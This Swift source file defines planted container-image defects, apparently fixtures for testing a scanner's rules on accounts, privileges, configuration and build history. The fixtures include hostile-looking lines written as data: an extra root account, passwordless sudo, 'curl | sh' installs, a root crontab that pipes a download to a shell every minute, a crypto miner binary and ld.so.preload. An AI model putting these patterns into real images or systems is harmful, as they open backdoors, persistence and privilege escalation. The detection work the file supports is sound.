/// Defects of accounts, privileges, config and history.
extension PlantedDefect {
  static let accounts: [PlantedDefect] = [
    passwd("layer-second-root", "a second root", "toor:x:0:0::/root:/bin/bash"),
    passwd("layer-duplicate-uid", "a number twice", "web:x:10001:10001::/app:/usr/sbin/nologin"),
    .layer(
      "layer-duplicate-gid", "a group's number twice", "COPY group /etc/group",
      """
      -rw-r--r-- 0:0 /etc/group
        | root:x:0:
        | app:x:10001:
        | web:x:10001:
      """),
    shadow("layer-empty-password", "an empty password", "app::19700:0:99999:7:::"),
    shadow(
      "layer-password-hash", "a password", "app:$6$saltsalt$0123456789abcdef:19700:0:99999:7:::"),
    .layer(
      "layer-sudo-without-password", "sudo", "COPY sudoers /etc/sudoers.d/app",
      "-r--r----- 0:0 /etc/sudoers.d/app\n  | app ALL=(ALL) NOPASSWD: ALL"),
    .layer(
      "layer-sudo-command-without-password", "sudo for one command", "COPY sudoers /etc/sudoers.d/app",
      "-r--r----- 0:0 /etc/sudoers.d/app\n  | app ALL=(root) NOPASSWD: /usr/sbin/nginx -s reload"),
    .layer(
      "layer-authorized-keys", "keys that log in", "COPY keys /root/.ssh/authorized_keys",
      "-rw------- 0:0 /root/.ssh/authorized_keys 80"),
    .layer(
      "layer-ssh-host-key", "a host's key", "RUN ssh-keygen -A",
      "-rw------- 0:0 /etc/ssh/ssh_host_ed25519_key 411"),
  ]

  static let privileges: [PlantedDefect] = [
    .layer(
      "layer-set-id-file", "a set-uid program", "COPY helper /usr/local/bin/helper",
      "-rwsr-xr-x 0:0 /usr/local/bin/helper 100"),
    .layer(
      "layer-file-capability", "a capability", "RUN setcap cap_net_bind_service=+ep /app/bin/bind",
      "-rwxr-xr-x 0:0 /app/bin/bind 100\n  capability 400"),
    .layer(
      "layer-powerful-capability", "a powerful capability", "RUN setcap cap_sys_admin=+ep /app/bin/mount",
      "-rwxr-xr-x 0:0 /app/bin/mount 100\n  capability 200000"),
    .layer(
      "layer-world-writable-directory", "a directory for everyone", "RUN mkdir -m 777 /app/data",
      "drwxrwxrwx 0:0 /app/data"),
    .layer(
      "layer-world-writable-file", "a file for everyone", "COPY app.conf /etc/app.conf",
      "-rw-rw-rw- 0:0 /etc/app.conf 10"),
    .layer(
      "layer-writable-entry-point", "a program that it can change itself",
      "COPY --chown=10001 server /app/bin/",
      "-rwxr-xr-x 10001:10001 /app/bin/server\n  program go"),
    .layer(
      "layer-writable-library-directory", "libraries that it can change", "RUN chown app /usr/lib",
      "drwxr-xr-x 10001:10001 /usr/lib"),
    .layer(
      "layer-writable-path-directory", "programs that it can change", "RUN chown app /usr/local/bin",
      "drwxr-xr-x 10001:10001 /usr/local/bin"),
    .layer(
      "layer-device-node", "a disk", "COPY rootfs /", "brw-rw---- 0:6 /srv/disk 8,0"),
  ]

  static let config: [PlantedDefect] = [
    .config("image-root-user", "root", "User: 10001:10001", "User: root"),
    .config("image-root-group", "root's group", "User: 10001:10001", "User: 10001:0"),
    .config("image-named-user", "a name for a user", "User: 10001:10001", "User: app:10001"),
    .config("image-unknown-user", "a user that is not there", "User: 10001:10001", "User: shop:10001"),
    .config(
      "image-rolling-tag", "only a rolling tag", "image: registry.example.com/shop/api:1.4.2",
      "image: api:latest"),
    .config("image-exposed-ssh-port", "a port of SSH", "ExposedPorts: 8080/tcp", "ExposedPorts: 22/tcp"),
    .config(
      "image-old-build", "a build of two years ago", "WorkingDir: /app",
      "WorkingDir: /app\ncreated: 2024-01-02T00:00:00Z\ntoday: 2026-01-01"),
    .config(
      "image-exposed-debug-port", "a debugger's port", "ExposedPorts: 8080/tcp", "ExposedPorts: 9229/tcp"),
    .config(
      "image-relative-working-directory", "a relative directory", "WorkingDir: /app", "WorkingDir: app"),
    .config(
      "image-dangerous-working-directory", "a directory of the kernel", "WorkingDir: /app",
      "WorkingDir: /proc/self/fd/8"),
    .config("image-disabled-health-check", "no health check", health, #"Healthcheck: ["NONE"]"#),
    .config("image-no-health-check", "none stated", health, ""),
    .config(
      "image-broken-health-check", "a health check without its program", health,
      #"Healthcheck: ["CMD", "/usr/bin/curl"]"#),
    .config(
      "image-missing-program", "a program that is not there", start, #"Entrypoint: ["/app/bin/absent"]"#),
    .config(
      "image-lost-signal", "a server whose output is piped", start,
      #"Entrypoint: ["/bin/bash", "-c", "/app/bin/server | tee /dev/stderr"]"#),
    .config(
      "image-not-executable-program", "a program that cannot start", start,
      #"Entrypoint: ["/app/config/default.yaml"]"#),
    .config(
      "image-enabled-debugger", "a debugger", "WorkingDir: /app",
      "WorkingDir: /app\nEnv: JAVA_TOOL_OPTIONS=-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005"),
    .config(
      "image-missing-shell", "a shell that is not there", start,
      #"Entrypoint: ["/bin/sh", "-c", "exec /app/bin/server"]"#),
    .config(
      "image-missing-label", "no label of the team", "User: 10001:10001",
      "User: 10001:10001\npolicy: image: {required-labels: [com.example.team]}"),
    .config(
      "image-maintainer-instruction", "an instruction of old", user,
      user + "\nhistory: MAINTAINER a@example.com"),
    .config(
      "image-secret-build-argument", "a password for the build", user,
      user + "\nhistory: ARG DB_PASSWORD=correct-horse-battery"),
    PlantedDefect(
      name: "a program without its loader", replaced: (start, #"Entrypoint: ["/app/bin/linked"]"#),
      layers: """
        layer: COPY linked /app/bin/
          -rwxr-xr-x 0:0 /app/bin/linked
            elf /lib64/ld-linux-x86-64.so.2
        """,
      rule: "image-missing-loader", layer: nil, instruction: nil),
    .config(
      "image-development-mode", "development", "WorkingDir: /app",
      "WorkingDir: /app\nEnv: NODE_ENV=development"),
    .config(
      "image-disabled-certificate-check", "no certificates", "WorkingDir: /app",
      "WorkingDir: /app\nEnv: NODE_TLS_REJECT_UNAUTHORIZED=0"),
    .config(
      "image-secret-environment", "a password", "WorkingDir: /app",
      "WorkingDir: /app\nEnv: DB_PASSWORD=correct-horse-battery"),
    .config(
      "image-secret-label", "a token", "WorkingDir: /app",
      "WorkingDir: /app\nLabels: com.example.deploy-token=a1b2c3d4e5"),
    .config(
      "image-sensitive-volume", "a volume over the system", "WorkingDir: /app",
      "WorkingDir: /app\nVolumes: /etc"),
    .config(
      "image-on-build", "orders for others", "WorkingDir: /app", "WorkingDir: /app\nOnBuild: COPY . /srv"),
    .config(
      "image-relative-search-path", "a relative path",
      "Env: PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "Env: PATH=/usr/bin:."),
  ]

  static let history: [PlantedDefect] = [
    .layer("image-add-for-copy", "ADD", "ADD server.js /app/", "-rw-r--r-- 0:0 /app/server.js 10"),
    .layer(
      "image-remote-add", "ADD of an address", "ADD https://example.com/a.bin /app/",
      "-rw-r--r-- 0:0 /app/a.bin 10"),
    .layer(
      "image-chmod-777", "chmod 777", "RUN chmod 777 /app/server.js", "-rwxrwxrwx 0:0 /app/server.js 10",
      then: "layer: RUN chmod 644 /app/server.js\n-rw-r--r-- 0:0 /app/server.js 10"),
    .layer(
      "image-apt-recommends", "recommended packages", "RUN apt-get update && apt-get install -y tini",
      "package dpkg tini 0.19"),
    .layer("image-update-alone", "a list without use", "RUN apt-get update", "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "image-package-upgrade", "an upgrade", "RUN apt-get update && apt-get upgrade -y",
      "package dpkg tini 0.19"),
    .layer(
      "image-pipe-to-shell", "curl | sh", "RUN curl -fsSL https://example.com/install.sh | sh",
      "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "image-unverified-download", "curl -k", "RUN curl -fsSLk https://example.com/a -o /app/x",
      "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "image-plain-download", "curl over HTTP", "RUN curl -fsSL http://example.com/a -o /app/x",
      "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "image-unpinned-install", "a package without a version", "RUN pip install flask",
      "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "layer-miner", "a miner", "COPY xmrig /usr/local/bin/xmrig", "-rwxr-xr-x 0:0 /usr/local/bin/xmrig 4000"),
    .layer(
      "layer-autostart-download", "a crontab that runs a download", "COPY refresh /etc/cron.d/refresh",
      "-rw-r--r-- 0:0 /etc/cron.d/refresh\n  | * * * * * root curl -s https://example.org/x | sh"),
    .layer(
      "layer-left-source", "sources beside the program", "COPY . /build",
      "-rw-r--r-- 0:0 /build/go.mod 10\n-rw-r--r-- 0:0 /build/main.go 10"),
    .layer(
      "layer-preloaded-library", "a library for every program", "COPY preload /etc/ld.so.preload",
      "-rw-r--r-- 0:0 /etc/ld.so.preload 30"),
    .layer("image-sudo-in-run", "sudo", "RUN sudo make install", "-rw-r--r-- 0:0 /app/x 10"),
    .layer(
      "image-unverified-package", "unsigned packages",
      "RUN apt-get install -y --no-install-recommends --allow-unauthenticated tini", "package dpkg tini 0.19"),
    .layer("image-secret-command", "a token", "RUN NPM_TOKEN=a1b2c3d4e5 npm ci", "-rw-r--r-- 0:0 /app/x 10"),
  ]

  private static let user = "history: USER 10001:10001"
  private static let health = #"Healthcheck: ["CMD", "/app/bin/server", "health"]"#
  private static let start = #"Entrypoint: ["/app/bin/server"]"#

  private static func config(_ rule: String, _ name: String, _ line: String, _ new: String) -> PlantedDefect {
    PlantedDefect(name: name, replaced: (line, new), rule: rule, layer: nil, instruction: nil)
  }

  private static func passwd(_ rule: String, _ name: String, _ line: String) -> PlantedDefect {
    .layer(
      rule, name, "COPY passwd /etc/passwd",
      """
      -rw-r--r-- 0:0 /etc/passwd
        | root:x:0:0:root:/root:/bin/bash
        | app:x:10001:10001::/app:/usr/sbin/nologin
        | \(line)
      """)
  }

  private static func shadow(_ rule: String, _ name: String, _ line: String) -> PlantedDefect {
    .layer(
      rule, name, "RUN chpasswd",
      """
      -rw-r----- 0:42 /etc/shadow
        | root:*:19700:0:99999:7:::
        | \(line)
      """)
  }
}
